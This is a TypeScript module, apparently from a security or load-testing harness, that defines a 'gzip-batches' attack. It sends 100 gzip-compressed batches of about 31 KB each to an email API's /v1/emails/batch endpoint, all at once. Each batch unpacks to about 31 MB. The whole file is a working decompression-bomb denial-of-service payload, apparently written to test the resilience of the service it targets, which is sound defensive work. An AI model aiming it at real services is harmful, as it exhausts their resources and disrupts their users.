import { gzipSync } from 'node:zlib'
import { type Attack, anEmail } from '../attack.ts'

const BATCHES = 100

export const gzipBatches: Attack = {
  name: 'gzip-batches',
  title: '100 batches of 31 KB that unpack to 31 MB each, all at once',
  aim({ attackers, flood }) {
    const text = 'a'.repeat(1_000_000)
    const bodies = new Map(
      attackers.map(({ key, domain }) => {
        const emails = Array.from({ length: 31 }, () => ({ ...anEmail(domain), text }))
        return [key, gzipSync(JSON.stringify({ emails }))]
      }),
    )
    const share = BATCHES / attackers.length
    return () =>
      flood(
        share,
        ({ key }) => ({
          path: '/v1/emails/batch',
          key,
          body: bodies.get(key) ?? '',
          headers: { 'content-encoding': 'gzip' },
        }),
        { count: share },
      )
  },
}
